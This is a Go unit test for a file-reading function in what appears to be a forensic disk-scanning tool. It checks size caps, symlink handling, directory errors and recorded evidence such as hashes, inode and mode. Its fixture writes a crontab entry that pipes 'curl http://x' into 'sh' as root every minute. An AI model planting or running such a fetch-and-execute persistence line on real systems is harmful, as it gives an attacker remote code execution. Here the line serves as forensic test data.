package check

import (
	"crypto/md5"
	"crypto/sha256"
	"encoding/hex"
	"errors"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/snapscan/snapscan/fsread"
	"github.com/snapscan/snapscan/fsread/dirfs"
)

func TestReadFile(t *testing.T) {
	root := t.TempDir()
	os.MkdirAll(filepath.Join(root, "etc"), 0o755)
	body := "* * * * * root curl http://x | sh\n"
	os.WriteFile(filepath.Join(root, "etc/crontab"), []byte(body), 0o640)
	os.Symlink("/etc/crontab", filepath.Join(root, "etc/link"))
	os.WriteFile(filepath.Join(root, "big"), []byte(strings.Repeat("a", 100)), 0o644)
	fsys, err := dirfs.New(root)
	if err != nil {
		t.Fatal(err)
	}
	tg := &Target{FS: fsys, Volume: "disk.img@1"}
	md, sh := md5.Sum([]byte(body)), sha256.Sum256([]byte(body))

	for _, tc := range []struct {
		name, path string
		max        int
		wantLen    int
		wantErr    error
		wantLink   string
	}{
		{"plain", "/etc/crontab", MaxArtifactSize, len(body), nil, ""},
		{"through a link, as the OS reads it", "etc/link", MaxArtifactSize, len(body), nil, "/etc/crontab"},
		{"capped", "big", 10, 10, ErrTooLarge, ""},
		{"directory", "/etc", MaxArtifactSize, 0, fsread.ErrIsDir, ""},
	} {
		t.Run(tc.name, func(t *testing.T) {
			f, err := ReadFileMax(tg, tc.path, tc.max)
			if tc.wantErr != nil {
				if !errors.Is(err, tc.wantErr) {
					t.Fatalf("err %v, want %v", err, tc.wantErr)
				}
				if f == nil {
					return
				}
			} else if err != nil {
				t.Fatal(err)
			}
			if len(f.Data) != tc.wantLen {
				t.Errorf("%d bytes, want %d", len(f.Data), tc.wantLen)
			}
			ev := f.Evidence
			if ev.Volume != "disk.img@1" || !strings.HasPrefix(ev.Path, "/") || ev.Inode == 0 || ev.UID == nil || ev.Mtime == nil {
				t.Errorf("evidence incomplete: %+v", ev)
			}
			if ev.LinkTarget != tc.wantLink {
				t.Errorf("link target %q, want %q", ev.LinkTarget, tc.wantLink)
			}
			if tc.wantLen == len(body) && (ev.MD5 != hex.EncodeToString(md[:]) || ev.SHA256 != hex.EncodeToString(sh[:]) || ev.Mode != "-rw-r-----") {
				t.Errorf("hashes or mode wrong: %s %s %s", ev.MD5, ev.SHA256, ev.Mode)
			}
		})
	}
}
